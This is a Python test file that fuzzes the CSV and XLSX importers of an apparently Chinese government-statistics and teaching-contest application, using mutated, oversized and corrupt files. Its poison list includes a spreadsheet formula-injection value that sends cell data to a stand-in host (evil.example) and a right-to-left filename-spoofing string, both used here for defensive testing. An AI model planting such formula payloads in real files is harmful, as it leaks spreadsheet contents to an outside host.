"""Fuzzed files over every import kind: a Chinese message, never a traceback; a refused
file changes nothing; an accepted file leaves a database every row of which reads back.

The corpus is generated here, from a fixed random state, from one valid file per kind: every column in turn
gets values found to break imports in the reliability test (numbers that overflow, digits
that are not ASCII, cells longer than any column, formula text, control characters), and
whole files are replaced by broken encodings, junk bytes, byte flips and a spreadsheet whose
used range is 1,048,576 × 16,384 cells. About 330 imports; a few seconds on SQLite.
"""

from __future__ import annotations

import io
import random
import re

from auditlog.models import LogEntry
from django.apps import apps
from django.contrib.contenttypes.models import ContentType
from django.db import connection, transaction

from baozheng.contest.importer import import_contestants
from baozheng.contest.setup_imports import import_judges, import_teachers, import_topics
from baozheng.lib.tabular import ImportFileError
from baozheng.projects.importer import import_projects
from baozheng.stats.imports import run_import
from baozheng.stats.models import ImportBatch
from baozheng.testing import BaozhengTestCase
from tests.contest.factory import SmallContest
from tests.stats import factory

CHINESE = re.compile(r"[\u4e00-\u9fff]")

POISON = [
    "1e999999999",
    "²",
    "9" * 5000,
    "1e309",
    "NaN",
    "-inf",
    "99999999999999.99",
    "100000000000000",
    "-1",
    "0",
    "x" * 1000,
    "y" * 131_073,
    '=HYPERLINK("http://evil.example/?"&A1,"看")',
    "a\x00b",
    "\u202etxt.exe",
    "😀" * 50,
    "2023年1-99999999999999999999月",
    "１２３",
    "1_000",
]

VALID_FILES = {
    "units": "编码,名称,上级编码,类型,分组,分组构成上级全域,简称\n"
    "411302001,新华街道,411302,街道,街道乡镇,是,新华\n",
    "indicators": "编码,名称,计量单位,类型,频度,方向,可加,1-2月合并,累计,牵头部门,报送截止日,排序\n"
    "X01,社会消费品零售总额,亿元,总量,月,正向,是,是,是,商务局,10,3\n",
    "observations": "indicator,unit,period,value,growth\nRETAIL,411302,2023-06,210.5,8.2\n",
    "wide": "2023年1-6月社会消费品零售总额,,\n地区,累计值,增长(%)\n宛城区,210.5,8.2\n",
    "targets": "指标,地区,年度,类型,保,争,抢,责任单位,责任领导\n"
    "新建5G基站,卧龙区,2023年,总量,100,120,130,卧龙区,区长\n",
    "projects": "项目编码,项目名称,县市区,主管部门,行业,是否制造业,总投资（万元）,计划年度,"
    "年度计划投资（万元）,项目类别,三个一批批次,批次类别,批次日期,分包领导\n"
    "NY-001,宛城光伏组件项目,宛城区,工信局,新能源,是,120000,2023,30000,三个一批,"
    "2023年第一期,签约,2023-03-28,陈静\n",
    "contestants": "参赛编号,姓名,学校,比赛阶段,学段,学科,推选方式,课堂录像\n"
    "101,赵一,瓦店一小,市级决赛,小学,语文,推荐,https://video.example/1\n",
    "topics": "题目编号,学科,学段,课题,教材出处\nT1,语文,小学,春晓,部编版一年级\n",
    "judges": "姓名,评委类别,工作单位,可评学科,联系电话\n李评,一线教师,瓦店一小,语文,13800000000\n",
    "teachers": "学校,教师人数\n瓦店一小,40\n",
}


def sparse_xlsx() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["indicator", "unit", "period", "value"])
    wb.active["XFD1048576"] = 1
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _tables_with_rows(tables: list[str]) -> set[str]:
    """One query for all tables: the fingerprint below then reads only those that hold rows
    (an empty table adds nothing to it), which makes the 330 fingerprints several times
    cheaper."""
    quote = connection.ops.quote_name
    union = " UNION ALL ".join(
        f"SELECT '{t}' WHERE EXISTS (SELECT 1 FROM {quote(t)})" for t in tables
    )  # table names come from the models, never from input
    with connection.cursor() as cursor:
        cursor.execute(union)
        return {row[0] for row in cursor.fetchall()}


def fingerprint(tables: list[str]) -> dict[str, list[tuple]]:
    """Every row of every table but the import log and its audit entries (written by design
    for every attempt), as stored (raw SQL, no model conversion: 330 of these through the
    ORM were most of this test's time), kept as read: comparing the rows is several times
    cheaper than hashing their text."""
    batch = ContentType.objects.get_for_model(ImportBatch)
    quote = connection.ops.quote_name
    filled = _tables_with_rows(tables)
    rows = {}
    with connection.cursor() as cursor:
        for model in apps.get_models(include_auto_created=True):
            table = model._meta.db_table
            if model is ImportBatch or table not in filled:
                continue
            where = f" WHERE content_type_id <> {batch.pk}" if model is LogEntry else ""
            key = quote(model._meta.pk.column)
            cursor.execute(f"SELECT * FROM {quote(table)}{where} ORDER BY {key}")
            rows[table] = cursor.fetchall()
    return rows


def read_back(tables: set[str]) -> None:
    """Every row of these tables through the models, as every page reads them: proves that
    no stored value is unreadable (the F2 poisoning)."""
    for model in apps.get_models(include_auto_created=True):
        if model._meta.db_table in tables:
            list(model._base_manager.values_list())


def corpus(kind: str, rng: random.Random) -> list[tuple[str, bytes, str]]:
    """(description, file bytes, file name) for one kind."""
    header, row = VALID_FILES[kind].rstrip("\n").rsplit("\n", 1)
    cells = row.split(",")
    files = []
    for column in range(len(cells)):
        for value in rng.sample(POISON, 4):
            mutated = list(cells)
            mutated[column] = '"' + value.replace('"', '""') + '"'
            text = f"{header}\n{','.join(mutated)}\n"
            files.append((f"column {column} = {value[:20]!r}", text.encode(), "f.csv"))
    valid = VALID_FILES[kind].encode()
    files += [
        ("utf-16-be without BOM", VALID_FILES[kind].encode("utf-16-be"), "f.csv"),
        ("utf-16-le with BOM", VALID_FILES[kind].encode("utf-16"), "f.csv"),
        ("junk", bytes(rng.randrange(256) for _ in range(300)), "f.csv"),
        ("junk xlsx", bytes(rng.randrange(256) for _ in range(300)), "f.xlsx"),
        ("empty", b"", "f.csv"),
        ("sparse xlsx", sparse_xlsx(), "f.xlsx"),
        ("open quote", valid.replace(b",", b',"', 1), "f.csv"),
        ("5,000 columns", (",".join(["a"] * 5000) + "\n").encode() + valid, "f.csv"),
        ("wrong type", valid, "f.exe"),
    ]
    for flip in range(4):
        data = bytearray(valid)
        for _ in range(3):
            data[rng.randrange(len(data))] = rng.randrange(256)
        files.append((f"byte flips {flip}", bytes(data), "f.csv"))
    return files


class ImportFuzzTests(BaozhengTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        factory.indicators()
        cls.c = SmallContest(head=cls.contest_staff)

    def importer(self, kind: str):
        contest = self.c.contest
        return {
            "projects": lambda d, n: import_projects(d, n),
            "contestants": lambda d, n: import_contestants(contest, d, n),
            "topics": lambda d, n: import_topics(contest, d, n),
            "judges": lambda d, n: import_judges(contest, d, n),
            "teachers": lambda d, n: import_teachers(contest, d, n),
            "wide": lambda d, n: run_import(
                "observations", d, n, indicator="社会消费品零售总额", period="2023年1-6月"
            ),
        }.get(kind, lambda d, n: run_import(kind, d, n))

    def test_every_fuzzed_file_gets_a_chinese_answer_and_a_refusal_changes_nothing(self) -> None:
        rng = random.Random(13)
        tried = refused = 0
        # The tables, listed once: no case creates or drops one.
        tables = connection.introspection.django_table_names(
            only_existing=True, include_views=False
        )
        read_back(_tables_with_rows(tables))
        before = fingerprint(tables)  # every case below is rolled back to this state
        for kind in VALID_FILES:
            for description, data, name in corpus(kind, rng):
                with self.subTest(kind=kind, case=description), transaction.atomic():
                    try:
                        report = self.importer(kind)(data, name)
                        messages = [str(e) for e in report.errors]
                    except ImportFileError as exc:
                        messages = [str(exc)]
                    tried += 1
                    after = fingerprint(tables)
                    if messages:
                        refused += 1
                        self.assertEqual(before, after, "a refused file changed the database")
                        for message in messages:
                            self.assertRegex(message, CHINESE)
                    else:  # what an accepted file wrote must read back
                        read_back({t for t in after if after[t] != before.get(t)})
                    transaction.set_rollback(True)
        self.assertGreater(tried, 300)
        self.assertGreater(refused, tried // 2)
